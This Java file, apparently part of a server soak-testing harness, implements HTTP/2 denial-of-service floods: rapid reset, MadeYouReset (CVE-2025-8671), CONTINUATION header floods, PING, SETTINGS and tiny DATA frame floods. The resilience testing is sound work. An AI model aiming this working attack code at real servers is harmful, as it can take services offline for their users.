package dev.typecase.soak.abuse;

import io.netty.buffer.Unpooled;
import io.netty.channel.ChannelFuture;
import io.netty.channel.ChannelHandlerContext;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2Flags;
import io.netty.handler.codec.http2.Http2FrameTypes;
import io.netty.handler.codec.http2.Http2FrameWriter;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2Settings;
import java.util.ArrayList;
import java.util.List;

/** Frames of which each costs its sender next to nothing. */
final class FrameAttacks {
  private static final int CALLS = 60_000;
  private static final int PINGS = 100_000;
  private static final int SETTINGS = 100_000;
  private static final int EMPTY_FRAMES = 2_000_000;
  private static final int BATCH = 1_000;
  private static final int HEADERS = 10_000;
  private static final int HEADER_BYTES = 16 << 10;
  private static final int CONNECTIONS = 4;
  private static final int CALLS_A_CONNECTION = 4;
  private static final int SMALL_FRAMES = 100_000;
  private static final int MESSAGE_BYTES = 4 << 20;

  private FrameAttacks() {}

  private interface Reset {
    ChannelFuture write(Http2FrameWriter frames, ChannelHandlerContext ctx, int stream);
  }

  static String rapidReset(Target target) {
    return resets(
        target,
        (frames, ctx, stream) ->
            frames.writeRstStream(ctx, stream, Http2Error.CANCEL.code(), ctx.newPromise()));
  }

  /** A window that opens by nothing is an error of the stream (CVE-2025-8671, "MadeYouReset"). */
  static String resetsProvoked(Target target) {
    return resets(
        target,
        (frames, ctx, stream) ->
            frames.writeFrame(
                ctx,
                Http2FrameTypes.WINDOW_UPDATE,
                stream,
                new Http2Flags(),
                Unpooled.buffer().writeInt(0),
                ctx.newPromise()));
  }

  private static String resets(Target target, Reset reset) {
    try (Attacker attacker = Attacker.speaking(target, Attacker.USUAL_WINDOW)) {
      Http2Headers headers = Attacker.headers("Read");
      int sent =
          attacker.flood(
              CALLS,
              BATCH,
              (frames, ctx) -> {
                int stream = attacker.nextStream();
                var _ = frames.writeHeaders(ctx, stream, headers, 0, false, ctx.newPromise());
                return reset.write(frames, ctx, stream);
              });
      return "%s; sent %,d".formatted(attacker.awaitHungUp(), sent);
    }
  }

  static String endlessHeaders(Target target) {
    return headers(target, HEADER_BYTES);
  }

  static String emptyHeaders(Target target) {
    return headers(target, 0);
  }

  private static String headers(Target target, int frameBytes) {
    try (Attacker attacker = Attacker.speaking(target, Attacker.USUAL_WINDOW)) {
      int stream = attacker.nextStream();
      var begin =
          (Attacker.Step)
              (frames, ctx) ->
                  frames.writeFrame(
                      ctx,
                      Http2FrameTypes.HEADERS,
                      stream,
                      new Http2Flags(),
                      // An indexed field, ":method: POST", of HPACK's static table.
                      Unpooled.buffer().writeByte(0x83),
                      ctx.newPromise());
      attacker.send(begin);
      int sent =
          attacker.flood(
              HEADERS,
              10,
              (frames, ctx) ->
                  frames.writeFrame(
                      ctx,
                      Http2FrameTypes.CONTINUATION,
                      stream,
                      new Http2Flags(),
                      Unpooled.buffer(frameBytes).writeZero(frameBytes),
                      ctx.newPromise()));
      return "%s; sent %,d frames".formatted(attacker.awaitHungUp(), sent);
    }
  }

  static String pings(Target target) {
    try (Attacker attacker = Attacker.speaking(target, Attacker.USUAL_WINDOW)) {
      int sent =
          attacker.flood(
              PINGS, BATCH, (frames, ctx) -> frames.writePing(ctx, false, 0, ctx.newPromise()));
      return "%s; sent %,d".formatted(attacker.awaitHungUp(), sent);
    }
  }

  static String settings(Target target) {
    try (Attacker attacker = Attacker.speaking(target, Attacker.USUAL_WINDOW)) {
      int sent =
          attacker.flood(
              SETTINGS,
              BATCH,
              (frames, ctx) -> frames.writeSettings(ctx, new Http2Settings(), ctx.newPromise()));
      attacker.settle();
      return "acknowledged, none kept; sent %,d".formatted(sent);
    }
  }

  static String emptyData(Target target) {
    try (Attacker attacker = Attacker.speaking(target, Attacker.USUAL_WINDOW)) {
      int stream = attacker.call("Write");
      int sent =
          attacker.flood(
              EMPTY_FRAMES,
              BATCH,
              (frames, ctx) ->
                  frames.writeData(ctx, stream, Unpooled.EMPTY_BUFFER, 0, false, ctx.newPromise()));
      attacker.settle();
      return "%s; sent %,d frames".formatted(CallAttacks.ends(List.of(attacker)), sent);
    }
  }

  static String smallData(Target target) {
    List<Attacker> attackers = new ArrayList<>();
    try {
      for (int i = 0; i < CONNECTIONS; i++) {
        attackers.add(Attacker.speaking(target, Attacker.USUAL_WINDOW));
      }
      int sent = 0;
      for (Attacker attacker : attackers) {
        for (int call = 0; call < CALLS_A_CONNECTION; call++) {
          int stream = attacker.call("Write");
          attacker.data(stream, Attacker.prefix(MESSAGE_BYTES), false);
          sent +=
              attacker.flood(
                  SMALL_FRAMES,
                  BATCH,
                  (frames, ctx) ->
                      frames.writeData(
                          ctx,
                          stream,
                          Unpooled.buffer(1).writeByte(0),
                          0,
                          false,
                          ctx.newPromise()));
        }
      }
      attackers.forEach(Attacker::settle);
      return "sent %,d frames; %s".formatted(sent, CallAttacks.ends(attackers));
    } finally {
      attackers.forEach(Attacker::close);
    }
  }
}
